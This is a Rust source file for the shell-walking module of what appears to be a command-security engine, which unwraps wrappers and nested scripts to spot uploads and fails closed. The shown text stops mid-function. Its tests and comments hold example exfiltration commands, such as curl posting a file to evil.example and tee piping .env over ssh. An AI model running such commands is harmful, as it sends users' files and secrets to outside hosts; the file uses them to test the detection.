//! Shell walking: every simple command a string would run, as bash would see it.
//!
//! `brush-parser` gives the syntax tree; this module adds the semantics no parser has: words are
//! unquoted (`cu''rl`, `c\url`, `$'\x63url'` all become `curl`), variables assigned earlier in the
//! same command are substituted (unquoted ones split into fields), `$(…)`/backticks/`<(…)` are
//! parsed and walked (a substitution that prints a literal stands for it), and wrappers
//! (`sudo`, `env`, `timeout`, `xargs`, `find -exec`, `watch`, …) and nested scripts (`bash -c`,
//! `eval`, a heredoc or a literal pipe fed to a shell, a script written earlier in the same
//! command) are unwrapped into the commands they really run. Whatever cannot be known statically
//! (a computed command name, `eval` of a run-time string, a parse error) becomes an
//! [`Event::unknowable`] so the rule fails closed.
//!
//! Every walk is bounded by the engine itself, in steps rather than fuel or time, so every host
//! (also one without fuel) reaches the same verdict: parsing, expansion, unwrapping and copies are
//! charged to a budget linear in the command's length ([`STEPS_PER_BYTE`]); a variable's value is
//! kept only up to [`MAX_VALUE_BYTES`] (past it, it is a run-time value: the walk never builds
//! what bash would build, such as `a=$a$a` doubled in a dead branch); the tokens parsed are
//! bounded per command ([`MAX_TOKENS`]: brush-parser costs thousands of fuel per token, however
//! short); wrapper chains are unwrapped in a loop, not by recursion. A walk that runs out of
//! steps or tokens stops and reports [`Event::incomplete`]: a verdict, never a trap.

use std::collections::HashMap;
use std::rc::Rc;

use brush_parser::ast::{self, Command, CommandPrefixOrSuffixItem as Item, CompoundCommand, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect};
use brush_parser::word::{self, Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, Token};

use super::Event;
use super::dest::{self, DYN};

/// Nested scripts (`bash -c "eval '…'"`) deeper than this are not followed: fail closed.
const MAX_DEPTH: usize = 8;
/// Syntax nesting deeper than this is not walked: fail closed.
const MAX_NEST: usize = 200;

/// Steps a walk may take per byte of the command it was given, plus [`MIN_STEPS`]. A step is one
/// byte expanded or copied, or one syntax node or wrapper visited; parsing costs
/// [`PARSE_STEPS_PER_BYTE`]. So a walk parses at most twice its input (a script run again and
/// again is parsed until the budget is spent) and copies at most a few dozen times its size; real
/// commands stay far below (`engine/tests/shell_bounds.rs` pins the worst known ones below half).
pub const STEPS_PER_BYTE: u64 = 64;
/// Parsing one byte (tokenizer and parser), in steps: by far the dearest thing a walk does. A
/// script run again is charged again, though it is parsed once.
pub const PARSE_STEPS_PER_BYTE: usize = 32;
/// The budget of a short command (128 KiB of parsing).
pub const MIN_STEPS: u64 = 4 << 20;
/// A variable value longer than this is not kept: from then on it is a run-time value.
pub const MAX_VALUE_BYTES: usize = 64 * 1024;

/// Shell tokens a walk may parse, over every script it parses (a script run again counts again).
/// Past it the walk stops and reports itself incomplete. Parsing, building the syntax tree and
/// walking it cost 8–16 k fuel per token through the component, whatever the token's length: a
/// budget per byte let 1 MB of `echo hi; ` take ~350 k tokens, ~300 ms. This bound keeps any
/// command's shell analysis within ~250 M fuel (~30 ms), and is still ~5× what long real commands
/// hold (a script of a few hundred lines, a heredoc, a few thousand arguments: a few thousand
/// tokens).
pub const MAX_TOKENS: usize = 16 * 1024;

/// The step budget of a walk over `len` bytes.
pub fn budget(len: usize) -> u64 {
    MIN_STEPS.saturating_add(STEPS_PER_BYTE.saturating_mul(len as u64))
}

/// Nesting of `(`/`{` deeper than this is not parsed: fail closed. Real commands stay far below
/// it; at 16 unbalanced parentheses the parser already needs ~40 ms.
const MAX_SYNTAX_DEPTH: usize = 12;

/// Compound commands nested deeper than this (`if`, `while`, `until`, `for`, `select`, `case`,
/// `{`, `(`) are not parsed: fail closed. Real scripts stay far below it.
const MAX_COMPOUND_NESTING: usize = 32;

/// The deepest nesting of compound commands in a token stream, as a stack of open constructs:
/// a reserved word opens or closes only where a command may start (`echo fi` is an argument),
/// and a closer pops only the construct it closes (a case pattern's `)` closes nothing). So a
/// closer can only hide depth that bash would close too.
fn compound_nesting(tokens: &[Token]) -> usize {
    let (mut open, mut max) = (Vec::new(), 0usize);
    let mut command_start = true;
    for t in tokens {
        let s = t.to_str();
        if let Token::Operator(..) = t {
            match s {
                "(" => open.push("("),
                ")" if open.last() == Some(&"(") => {
                    open.pop();
                }
                _ => {}
            }
            max = max.max(open.len());
            // After a redirection operator comes a file name, not a command.
            command_start = !s.contains(['<', '>']);
            continue;
        }
        if !command_start {
            continue;
        }
        let closes = |opener: &str| open.last() == Some(&opener);
        command_start = match s {
            "if" | "while" | "until" | "{" => {
                open.push(s);
                true
            }
            // The next word is a name or a word to match, not a command.
            "for" | "select" | "case" => {
                open.push(s);
                false
            }
            "fi" if closes("if") => open.pop().is_none(),
            "done" if closes("while") || closes("until") || closes("for") || closes("select") => open.pop().is_none(),
            "esac" if closes("case") => open.pop().is_none(),
            "}" if closes("{") => open.pop().is_none(),
            "then" | "do" | "else" | "elif" | "!" | "time" => true,
            _ => false,
        };
        max = max.max(open.len());
    }
    max
}

/// The deepest nesting of `(` and `{` anywhere in the text. Quotes and escapes are deliberately
/// not honoured: whether a quote quotes depends on context (in a heredoc body `'` is a literal
/// character), and one misread quote would hide everything after it from the count, letting
/// unbalanced parentheses reach the parser (a fuzzer found exactly that). Counting every bracket
/// can only overcount, which fails closed.
fn syntax_depth(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for b in text.bytes() {
        match b {
            b'(' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

#[cfg(test)]
mod depth_tests {
    use super::*;

    #[test]
    fn syntax_depth_counts_every_bracket_quoted_or_not() {
        assert_eq!(syntax_depth("echo $(date) ${HOME}"), 1);
        assert_eq!(syntax_depth("echo \"$(a $(b))\""), 2);
        assert_eq!(syntax_depth("echo '((((((' \\("), 7, "quoting is not trusted to hide brackets");
        // A `'` in a heredoc body is a literal: reading it as a quote once hid the rest.
        assert_eq!(syntax_depth("cat <<EOF\nit's\nEOF\n((((((((((((((((x"), 16);
    }

    #[test]
    fn nested_subshells_read_as_arithmetic_are_still_walked() {
        let script = walk("( ( curl -d @f https://up.example.invalid ) )");
        assert_eq!(script.cmds.len(), 1);
        assert_eq!(script.cmds[0].name(), "curl");
        assert!(walk("(( i = (a + b) * 2 ))").events.is_empty(), "real arithmetic is not a parse failure");
    }

    #[test]
    fn hostile_nesting_fails_closed_without_parsing() {
        for text in [
            format!("{} curl -d @x https://evil.example", "(".repeat(30)),
            "( ".repeat(5000),
            format!("echo {}", "$(echo ".repeat(5000)),
            "{ ".repeat(300),
            // A quote the old count trusted, in a heredoc body where it is a literal.
            format!("cat <<EOF\nit's\nEOF\necho {}", "((".repeat(40)),
        ] {
            let script = walk(&text);
            assert!(script.cmds.is_empty() && !script.events.is_empty(), "{}", &text[..40]);
        }
    }
}

/// One word after quote removal and expansion. Unknown parts are [`DYN`].
#[derive(Clone, Debug, Default)]
pub struct Word {
    pub text: String,
    /// The word holds a command substitution (run-time data, often read from local files).
    pub subst: bool,
}

impl Word {
    pub fn lit(text: &str) -> Word {
        Word { text: text.to_string(), subst: false }
    }

    pub fn dynamic(&self) -> bool {
        dest::has_dyn(&self.text)
    }
}

/// Where a command's standard input comes from.
#[derive(Clone, Debug)]
pub enum Stdin {
    Terminal,
    /// `< path`
    File(String),
    /// A heredoc, a here-string or a literal `echo …|`: the text is known.
    Text(String),
    /// The output of another command.
    Pipe,
}

impl Stdin {
    pub fn has_data(&self) -> bool {
        !matches!(self, Stdin::Terminal)
    }
}

/// A simple command after unwrapping, ready for the tool detectors.
#[derive(Clone, Debug)]
pub struct Cmd {
    pub argv: Vec<Word>,
    /// `NAME=value` prefixes (`http_proxy=… curl …`).
    pub env: Vec<(String, String)>,
    pub stdin: Stdin,
}

impl Cmd {
    pub fn name(&self) -> &str {
        let a0 = &self.argv[0].text;
        a0.rsplit('/').next().unwrap_or(a0)
    }

    pub fn args(&self) -> &[Word] {
        &self.argv[1..]
    }
}

/// Everything the walk found.
#[derive(Default)]
pub struct Script {
    pub cmds: Vec<Cmd>,
    /// Files written with known content in the same command (`cat > x.sh <<EOF`, `printf … > f`).
    pub files: HashMap<String, String>,
    pub events: Vec<Event>,
    /// Paths written by redirections (`> f`, `>> f`, `2> f`, `&> f`, `<> f`), each with the number
    /// of commands in `cmds` before the one it belongs to.
    pub writes: Vec<(usize, String)>,
    /// What is left of the walk's step budget (spent: `events` says the walk is incomplete).
    pub budget: Budget,
}

/// Walk a shell command string.
pub fn walk(text: &str) -> Script {
    let out = Script { budget: Budget::new(budget(text.len())), ..Script::default() };
    let mut w = Walker { opts: ParserOptions::default(), vars: HashMap::new(), out, nest: 0, parsed: HashMap::new(), tokens_left: MAX_TOKENS, pipelines: 0, last_output: None, in_loop: false, aliases: HashMap::new(), functions: HashMap::new(), positional: None };
    w.program(text, 0);
    w.uncalled();
    w.out
}

struct Walker {
    opts: ParserOptions,
    /// Variables assigned in this command; `None` = assigned a run-time value.
    vars: HashMap<String, Option<String>>,
    out: Script,
    nest: usize,
    /// Each script text parsed so far: a script written once and run again and again is parsed
    /// once (each run is still charged its parse and its tokens, so the verdict does not depend on
    /// this cache), with the tokens it holds.
    parsed: HashMap<String, (Parsed, usize)>,
    /// Tokens the walk may still parse ([`MAX_TOKENS`]).
    tokens_left: usize,
    /// Pipelines walked so far, and what the last one printed when known: the value of a command
    /// substitution that runs one pipeline ([`Walker::substitution`]).
    pipelines: usize,
    last_output: Option<String>,
    /// Inside a `for` loop whose body is walked once per value.
    in_loop: bool,
    /// `alias NAME='text'` defined earlier in this command (expanded whether or not the shell is
    /// interactive: `bash -i -c` expands them, and a guard cannot tell `shopt` apart).
    aliases: HashMap<String, String>,
    /// Functions defined in this command, read where they are called ([`Walker::call`]).
    functions: HashMap<String, Function>,
    /// `$1`, `$2`, … inside a function being read for one call (`None`: run-time values).
    positional: Option<Vec<Option<String>>>,
}

/// A shell function: its body, and how it has been read so far.
struct Function {
    body: Rc<ast::FunctionBody>,
    /// Calls read with their arguments (at most [`MAX_LOOP_VALUES`]; later calls are covered by
    /// one reading with run-time arguments).
    walks: usize,
    generic: bool,
    /// Being read now: a recursive call is not read again.
    active: bool,
}

type Parsed = Result<Rc<ast::Program>, &'static str>;

impl Walker {
    /// Take `n` steps of the budget. `false` once it is spent: the caller stops, and the walk
    /// reports itself incomplete (once).
    fn charge(&mut self, n: usize) -> bool {
        self.out.budget.charge(&mut self.out.events, n)
    }

    fn program(&mut self, text: &str, depth: usize) {
        if !self.charge(text.len().saturating_mul(PARSE_STEPS_PER_BYTE)) {
            return;
        }
        if depth > MAX_DEPTH {
            self.out.events.push(Event::unknowable("scripts nested too deeply to follow"));
            return;
        }
        let (parsed, tokens) = match self.parsed.get(text) {
            Some(parsed) => parsed.clone(),
            None => {
                let (parsed, tokens) = self.parse(text);
                let parsed = (parsed.map(Rc::new), tokens);
                self.parsed.insert(text.to_string(), parsed.clone());
                parsed
            }
        };
        if !self.spend_tokens(tokens) {
            return;
        }
        match parsed {
            Ok(program) => {
                for list in &program.complete_commands {
                    self.list(list, depth);
                }
            }
            Err(why) => self.out.events.push(Event::unknowable(why)),
        }
    }

    /// Take `n` tokens of [`MAX_TOKENS`]. `false` once they are not there: the walk stops and
    /// reports itself incomplete, as when its steps run out.
    fn spend_tokens(&mut self, n: usize) -> bool {
        match self.tokens_left.checked_sub(n) {
            Some(rest) => {
                self.tokens_left = rest;
                true
            }
            None => {
                self.tokens_left = 0;
                self.out.budget.stop(&mut self.out.events);
                false
            }
        }
    }

    /// Tokenize, check the nesting of compound commands, parse; with the tokens the text holds
    /// (one more than the walk may still parse when it holds more: the tokenizer stops there, and
    /// the caller's [`Walker::spend_tokens`] fails). The parser recurses once per level of
    /// `if`/`while`/`for`/`case`, which no bracket count sees (`if true; then` ×3000 is 42 KB and
    /// overflowed the stack): the tokens are counted first, quoting and heredocs already resolved
    /// by the tokenizer.
    fn parse(&self, text: &str) -> (Result<ast::Program, &'static str>, usize) {
        const UNPARSED: &str = "it does not parse as a shell command";
        // brush-parser backtracks exponentially on unbalanced `(` (24 of them: seconds) and
        // recurses once per level: an input built to be slow or deep must not reach it, or the
        // call would run out of budget and fail open.
        if syntax_depth(text) > MAX_SYNTAX_DEPTH {
            return (Err("it is nested too deeply to analyse"), 0);
        }
        let tokens = match brush_parser::uncached_tokenize_str_at_most(text, &self.opts.tokenizer_options(), self.tokens_left) {
            Ok(Some(tokens)) => tokens,
            Ok(None) => return (Err(UNPARSED), self.tokens_left + 1),
            Err(_) => return (Err(UNPARSED), 0),
        };
        if compound_nesting(&tokens) > MAX_COMPOUND_NESTING {
            return (Err("it is nested too deeply to analyse"), tokens.len());
        }
        (brush_parser::parse_tokens(&tokens, &self.opts).map_err(|_| UNPARSED), tokens.len())
    }

    fn list(&mut self, list: &ast::CompoundList, depth: usize) {
        self.list_from(list, None, depth);
    }

    /// A list whose pipelines' first commands each read `first` (`None`: their own input).
    fn list_from(&mut self, list: &ast::CompoundList, first: Option<Stdin>, depth: usize) {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline_from(&and_or.first, first.clone(), depth);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline_from(p, first.clone(), depth),
                }
            }
        }
    }

    fn pipeline(&mut self, p: &ast::Pipeline, depth: usize) {
        self.pipeline_from(p, None, depth);
    }

    /// A pipeline whose first command reads `first` (a `>(…)` list reads what is written to it).
    fn pipeline_from(&mut self, p: &ast::Pipeline, first: Option<Stdin>, depth: usize) {
        let (mut piped, mut output): (Option<Stdin>, Option<String>) = (first, None);
        for (i, cmd) in p.seq.iter().enumerate() {
            if i > 0 {
                piped = Some(output.take().map_or(Stdin::Pipe, Stdin::Text));
            }
            output = self.command(cmd, piped.take(), depth);
        }
        self.pipelines += 1;
        self.last_output = output;
    }

    /// `>(…)`: a list that reads whatever the command writes to the path it stands for
    /// (`tee >(ssh h 'cat > x') < .env`), so each of its pipelines is fed a pipe. The path itself
    /// is a run-time value.
    fn written_to(&mut self, list: &ast::CompoundList, depth: usize) -> Word {
        self.list_from(list, Some(Stdin::Pipe), depth);
        Word { text: DYN.to_string(), subst: false }
    }

    /// Walk a command substitution; its value when it is one command that prints a known literal
    /// (`$(printf %s 'curl …')`), else `None` (a run-time value).
    fn substitution(&mut self, text: &str, depth: usize) -> Option<String> {
        let before = self.pipelines;
        self.last_output = None;
        self.program(text, depth + 1);
        let output = self.last_output.take();
        (self.pipelines == before + 1).then_some(output).flatten().map(|o| o.trim_end_matches('\n').to_string())
    }

    /// Walk a `{ …; }` or `( … )` group; what it prints when some of its pipelines print a known
    /// literal, the others' output being a line of run-time value (`(crontab -l; echo '…') |
    /// crontab -`: the entries added are read, a shell fed the whole still meets the unknown part).
    fn printed(&mut self, list: &ast::CompoundList, depth: usize) -> Option<String> {
        let (mut out, mut known) = (String::new(), false);
        for item in &list.0 {
            let and_or = &item.0;
            let pipelines = std::iter::once(&and_or.first).chain(and_or.additional.iter().map(|n| match n {
                ast::AndOr::And(p) | ast::AndOr::Or(p) => p,
            }));
            for p in pipelines {
                self.last_output = None;
                self.pipeline(p, depth);
                match self.last_output.take() {
                    Some(o) => {
                        known = true;
                        out.push_str(&o);
                        if !o.ends_with('\n') {
                            out.push('\n');
                        }
                    }
                    None => {
                        out.push(DYN);
                        out.push('\n');
                    }
                }
            }
        }
        let printed = known.then_some(out);
        self.last_output.clone_from(&printed);
        printed
    }

    /// `<(…)` as an argument: a path to what the list prints. When that is a known literal
    /// (`<(echo 'curl …')`), the path is a file of this walk, so `source <(…)`, `bash <(…)` and
    /// `bash --rcfile <(…)` run its text; otherwise a run-time value.
    fn process_substitution(&mut self, list: &ast::CompoundList, depth: usize) -> Word {
        match self.list_output(list, depth) {
            Some(text) => {
                let path = format!("/dev/fd/{}", 63 + self.out.files.len());
                self.out.files.insert(path.clone(), text);
                Word::lit(&path)
            }
            None => Word { text: DYN.to_string(), subst: true },
        }
    }

    /// Walk a list; what it prints when it is one pipeline printing a known literal.
    fn list_output(&mut self, list: &ast::CompoundList, depth: usize) -> Option<String> {
        let before = self.pipelines;
        self.last_output = None;
        self.list(list, depth);
        self.last_output.take().filter(|_| self.pipelines == before + 1)
    }

    /// Walk one command; returns its output when it is a known literal (`echo 'curl …'`).
    fn command(&mut self, cmd: &Command, piped: Option<Stdin>, depth: usize) -> Option<String> {
        if !self.charge(1) {
            return None;
        }
        self.nest += 1;
        if self.nest > MAX_NEST {
            self.nest -= 1;
            self.out.events.push(Event::unknowable("syntax nested too deeply to follow"));
            return None;
        }
        let output = match cmd {
            Command::Simple(sc) => self.simple(sc, piped, depth),
            Command::Compound(cc, redirects) => {
                if let Some(r) = redirects {
                    let mut io = Io::default();
                    for redirect in &r.0 {
                        self.redirect(redirect, &mut io, depth);
                    }
                }
                match cc {
                    CompoundCommand::BraceGroup(ast::BraceGroupCommand { list, .. }) | CompoundCommand::Subshell(ast::SubshellCommand { list, .. }) => self.printed(list, depth),
                    _ => {
                        self.compound(cc, depth);
                        None
                    }
                }
            }
            Command::Function(f) => {
                let body = Function { body: Rc::new(f.body.clone()), walks: 0, generic: false, active: false };
                self.functions.insert(f.fname.value.clone(), body);
                None
            }
            Command::ExtendedTest(..) => None,
        };
        self.nest -= 1;
        output
    }

    fn compound(&mut self, cc: &CompoundCommand, depth: usize) {
        match cc {
            CompoundCommand::BraceGroup(b) => self.list(&b.list, depth),
            CompoundCommand::Subshell(s) => self.list(&s.list, depth),
            CompoundCommand::ForClause(f) => {
                let mut values = Vec::new();
                for w in f.values.iter().flatten() {
                    self.fields(&w.value, &mut values, depth);
                }
                // A few known values (`for u in https://{a,b}/in`): the body once with each, for
                // the outermost such loop only (nested ones would multiply the walks); otherwise
                // once with a run-time value.
                let known: Option<Vec<String>> = values.iter().map(|w| (!w.dynamic()).then(|| w.text.clone())).collect();
                match known.filter(|v| !v.is_empty() && v.len() <= MAX_LOOP_VALUES && !self.in_loop) {
                    Some(known) => {
                        self.in_loop = true;
                        for v in known {
                            self.vars.insert(f.variable_name.clone(), Some(v));
                            self.list(&f.body.list, depth);
                        }
                        self.in_loop = false;
                    }
                    None => {
                        self.vars.insert(f.variable_name.clone(), None);
                        self.list(&f.body.list, depth);
                    }
                }
            }
            CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list, depth),
            CompoundCommand::CaseClause(c) => {
                self.word(&c.value.value, depth);
                for item in &c.cases {
                    if let Some(l) = &item.cmd {
                        self.list(l, depth);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, depth);
                self.list(&i.then, depth);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, depth);
                    }
                    self.list(&e.body, depth);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, depth);
                self.list(&w.1.list, depth);
            }
            CompoundCommand::Coprocess(c) => {
                self.command(&c.body, None, depth);
            }
            CompoundCommand::Arithmetic(a) => {
                // brush-parser reads `( ( cmd ) )` -- nested subshells, as bash runs them -- as
                // `(( … ))` arithmetic: walk the body as commands too when it parses as a program
                // (real arithmetic either fails to parse or names no uploader).
                let (parsed, tokens) = self.parse(&a.expr.value);
                if self.spend_tokens(tokens)
                    && let Ok(program) = parsed
                {
                    for list in &program.complete_commands {
                        self.list(list, depth);
                    }
                }
            }
        }
    }

    fn simple(&mut self, sc: &ast::SimpleCommand, piped: Option<Stdin>, depth: usize) -> Option<String> {
        let mut io = Io::default();
        let mut env = Vec::new();
        let words = sc.prefix.as_ref().map_or(0, |p| p.0.len()) + 1 + sc.suffix.as_ref().map_or(0, |s| s.0.len());
        let mut argv = Vec::with_capacity(words);
        let items = sc.prefix.iter().flat_map(|p| p.0.iter());
        for item in items {
            match item {
                Item::AssignmentWord(a, _) => env.push(self.assignment(a, depth)),
                Item::IoRedirect(r) => self.redirect(r, &mut io, depth),
                Item::ProcessSubstitution(_, sub) => self.list(&sub.list, depth),
                Item::Word(w) => self.fields(&w.value, &mut argv, depth),
            }
        }
        if let Some(w) = &sc.word_or_name {
            self.fields(&w.value, &mut argv, depth);
        }
        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
            match item {
                Item::Word(w) => self.fields(&w.value, &mut argv, depth),
                Item::AssignmentWord(_, w) => argv.push(self.word(&w.value, depth)),
                Item::IoRedirect(r) => self.redirect(r, &mut io, depth),
                Item::ProcessSubstitution(ast::ProcessSubstitutionKind::Write, sub) => argv.push(self.written_to(&sub.list, depth)),
                Item::ProcessSubstitution(_, sub) => argv.push(self.process_substitution(&sub.list, depth)),
            }
        }
        if argv.is_empty() {
            for (name, value) in env {
                self.vars.insert(name, value);
            }
            return None;
        }
        let stdin = io.stdin.or(piped).unwrap_or(Stdin::Terminal);
        let env: Vec<(String, String)> = env.into_iter().map(|(k, v)| (k, v.unwrap_or_else(|| DYN.to_string()))).collect();
        let cmd = Cmd { argv, env, stdin };
        let name = cmd.name();
        if matches!(name, "export" | "declare" | "typeset" | "local" | "readonly") {
            for a in cmd.args() {
                if let Some((k, v)) = a.text.split_once('=') {
                    self.vars.insert(k.to_string(), (!a.dynamic() && v.len() <= MAX_VALUE_BYTES).then(|| v.to_string()));
                }
            }
        }
        if name == "alias" {
            for a in cmd.args() {
                if let Some((k, v)) = a.text.split_once('=')
                    && !a.dynamic()
                    && v.len() <= MAX_VALUE_BYTES
                {
                    self.aliases.insert(k.to_string(), v.to_string());
                }
            }
        }
        if name == "printf"
            && let [v, var, rest @ ..] = cmd.args()
            && v.text == "-v"
        {
            let value = (!rest.iter().any(Word::dynamic)).then(|| printf(rest)).flatten().filter(|t| t.len() <= MAX_VALUE_BYTES);
            self.vars.insert(var.text.clone(), value);
        }
        let output = match self.call(&cmd, depth) {
            Some(printed) => printed,
            None => self.literal_output(&cmd),
        };
        if output.as_ref().is_some_and(|o| !self.charge(o.len())) {
            return None;
        }
        if let Some(path) = io.written {
            let written = output.clone().or_else(|| match &cmd.stdin {
                Stdin::Text(t) if (name == "cat" || name == "tee") && self.charge(t.len()) => Some(t.clone()),
                _ => None,
            });
            if let Some(text) = written {
                self.out.files.insert(path, text);
                return None;
            }
        }
        self.exec(cmd, depth);
        output
    }

    /// A call of a function defined earlier: its body read with `$1`, `$2`, … bound to the
    /// call's arguments, and what it prints when that is known (`h=$(cfg)`). `None`: no such
    /// function. The call itself still goes to the detectors (a function named after a tool
    /// usually wraps it: `curl() { command curl --retry 3 "$@"; }`).
    fn call(&mut self, cmd: &Cmd, depth: usize) -> Option<Option<String>> {
        let f = self.functions.get_mut(cmd.name())?;
        if f.active || (f.walks >= MAX_LOOP_VALUES && f.generic) {
            return Some(None);
        }
        let generic = f.walks >= MAX_LOOP_VALUES;
        if generic { f.generic = true } else { f.walks += 1 }
        f.active = true;
        let body = f.body.clone();
        let args = (!generic).then(|| cmd.args().iter().map(|a| (!a.dynamic()).then(|| a.text.clone())).collect());
        let printed = self.function_body(&body, args, depth);
        if let Some(f) = self.functions.get_mut(cmd.name()) {
            f.active = false;
        }
        Some(printed)
    }

    /// Read a function body with these positional parameters; what it prints when known.
    fn function_body(&mut self, body: &ast::FunctionBody, args: Option<Vec<Option<String>>>, depth: usize) -> Option<String> {
        let saved = std::mem::replace(&mut self.positional, args);
        let before = self.pipelines;
        let printed = match &body.0 {
            CompoundCommand::BraceGroup(ast::BraceGroupCommand { list, .. }) | CompoundCommand::Subshell(ast::SubshellCommand { list, .. }) => self.printed(list, depth),
            cc => {
                self.compound(cc, depth);
                None
            }
        };
        self.pipelines = before;
        self.positional = saved;
        printed
    }

    /// Functions never called are read once with run-time arguments (they may be called by
    /// something the walk does not follow, such as a trap or an `export -f`).
    fn uncalled(&mut self) {
        loop {
            // In name order: the events, and so the verdict, do not depend on the map's order.
            let mut names: Vec<String> = self.functions.iter().filter(|(_, f)| f.walks == 0 && !f.generic).map(|(n, _)| n.clone()).collect();
            if names.is_empty() {
                return;
            }
            names.sort_unstable();
            for name in names {
                let Some(f) = self.functions.get_mut(&name) else { continue };
                (f.generic, f.active) = (true, true);
                let body = f.body.clone();
                if !self.charge(1) {
                    return;
                }
                self.function_body(&body, None, 0);
            }
        }
    }

    /// What `echo`/`printf` with literal arguments or `cat` of a known file prints.
    fn literal_output(&self, cmd: &Cmd) -> Option<String> {
        let args = cmd.args();
        let known = || !args.iter().any(Word::dynamic);
        match cmd.name() {
            "echo" if known() => {
                let flags = args.iter().take_while(|a| a.text.len() > 1 && a.text.starts_with('-') && a.text[1..].chars().all(|c| matches!(c, 'n' | 'e' | 'E'))).count();
                let text = args[flags..].iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ");
                // `echo -e`: escapes are read (`'all:\n\tcurl …'`).
                let escapes = args[..flags].iter().rev().find_map(|a| a.text.chars().rev().find(|c| matches!(c, 'e' | 'E'))) == Some('e');
                Some(if escapes { ansi_c(&text) } else { text })
            }
            "printf" if known() && args.first().is_some_and(|f| f.text == "-v") => None,
            // What printf prints; with a conversion not modelled, its format and arguments one
            // per line: enough to see commands and URLs in it.
            "printf" if known() => printf(args).or_else(|| Some(args.iter().map(|a| a.text.replace("\\n", "\n")).collect::<Vec<_>>().join("\n"))),
            "cat" if args.len() == 1 && known() => self.out.files.get(&args[0].text).cloned(),
            _ => None,
        }
    }

    /// Run one command: unwrap wrappers and nested scripts, or hand it to the detectors.
    ///
    /// A wrapper chain (`nice nice … curl`) is unwrapped in a loop over one argv, a suffix being
    /// an offset rather than a copy, and wrappers that run several commands (`find -exec … \;
    /// -exec … \;`) go through a worklist: thousands of wrappers cost neither stack nor quadratic
    /// copies, and each level is a step of the budget.
    fn exec(&mut self, cmd: Cmd, depth: usize) {
        let mut work = vec![(cmd, 0usize)];
        while let Some((mut cmd, mut start)) = work.pop() {
            loop {
                if !self.charge(1) {
                    return;
                }
                let Some(first) = cmd.argv.get(start) else { break };
                if first.dynamic() {
                    self.out.events.push(Event::unknowable("the command name is computed at run time"));
                    break;
                }
                let name = first.text.rsplit('/').next().unwrap_or(&first.text);
                let args = &cmd.argv[start + 1..];
                // An alias runs its text with the arguments after it; it is not expanded again
                // inside its own text (`alias ls='ls -l'`), as bash does not.
                if !self.aliases.is_empty()
                    && let Some(text) = self.aliases.remove(&first.text)
                {
                    let quoted: String = args.iter().map(|a| format!(" '{}'", a.text.replace('\'', "'\\''"))).collect();
                    self.program(&format!("{text}{quoted}"), depth + 1);
                    self.aliases.insert(first.text.clone(), text);
                    break;
                }
                match unwrap(name, args) {
                    Unwrapped::Skip(n) => start += 1 + n,
                    Unwrapped::SkipAppend(n) => {
                        cmd.argv.push(Word { text: DYN.to_string(), subst: false });
                        start += 1 + n;
                    }
                    Unwrapped::Inner(inners) => {
                        let stdin = match &cmd.stdin {
                            Stdin::Text(t) => t.len(),
                            _ => 0,
                        };
                        // Each copy: its words (and their bytes), the environment and the input.
                        let words = |argv: &[Word]| argv.iter().map(|w| w.text.len() + 8).sum::<usize>();
                        let copied = inners.iter().map(|argv| words(argv) + 8 * cmd.env.len() + stdin).sum();
                        if !self.charge(copied) {
                            return;
                        }
                        for argv in inners.into_iter().rev().filter(|argv| !argv.is_empty()) {
                            work.push((Cmd { argv, env: cmd.env.clone(), stdin: cmd.stdin.clone() }, 0));
                        }
                        break;
                    }
                    Unwrapped::Script(Some(text)) => {
                        self.program(&text, depth + 1);
                        break;
                    }
                    Unwrapped::Remote(text) => {
                        self.program(&text, depth + 1);
                        cmd.argv.drain(..start);
                        self.out.cmds.push(cmd);
                        break;
                    }
                    Unwrapped::Script(None) => {
                        self.out.events.push(Event::unknowable("it runs a script built at run time"));
                        break;
                    }
                    Unwrapped::Shell => {
                        cmd.argv.drain(..start);
                        self.shell(&cmd, depth);
                        break;
                    }
                    Unwrapped::Stdin(file, lines) => {
                        let text = match (file.as_ref(), &cmd.stdin) {
                            (Some(f), _) | (None, Stdin::File(f)) => self.out.files.get(f).cloned(),
                            (None, Stdin::Text(t)) => Some(t.clone()),
                            (None, Stdin::Pipe) => {
                                self.out.events.push(Event::unknowable("it runs commands read from a pipe"));
                                None
                            }
                            (None, Stdin::Terminal) => None,
                        };
                        let text = text.unwrap_or_default();
                        if self.charge(text.len()) {
                            let script = lines.commands(text);
                            if !script.trim().is_empty() {
                                self.program(&script, depth + 1);
                            }
                        }
                        break;
                    }
                    Unwrapped::No => {
                        if name == "ssh" {
                            // ProxyCommand is a local shell command.
                            for a in args {
                                if let Some((_, v)) = a.text.split_once("roxyCommand=").or_else(|| a.text.split_once("roxyCommand ")) {
                                    self.program(v, depth + 1);
                                }
                            }
                            // The remote command is a command too (run by the remote shell), and
                            // a remote shell reading its input runs what is fed to ssh
                            // (`ssh h bash -s <<EOF`, `echo '…' | ssh h sh`, `ssh h < script`).
                            let remote = super::runners::ssh_remote(args);
                            if let Some(remote) = &remote {
                                self.program(remote, depth + 1);
                            }
                            if remote.as_deref().is_none_or(super::runners::reads_script_from_stdin)
                                && let Stdin::Text(t) = &cmd.stdin
                            {
                                let t = t.clone();
                                self.program(&t, depth + 1);
                            }
                        }
                        cmd.argv.drain(..start);
                        self.out.cmds.push(cmd);
                        break;
                    }
                }
            }
        }
    }

    /// `bash -c '…'`, `sh -s <<<'…'`, `echo … | bash`, `bash script-written-above.sh`.
    fn shell(&mut self, cmd: &Cmd, depth: usize) {
        let args = cmd.args();
        let mut i = 0;
        while i < args.len() && args[i].text.starts_with(['-', '+']) && args[i].text != "--" && args[i].text != "-" {
            let opt = &args[i].text;
            if !opt.starts_with("--") && opt.contains('c') {
                return match args.get(i + 1) {
                    Some(script) if !script.dynamic() => self.program(&script.text, depth + 1),
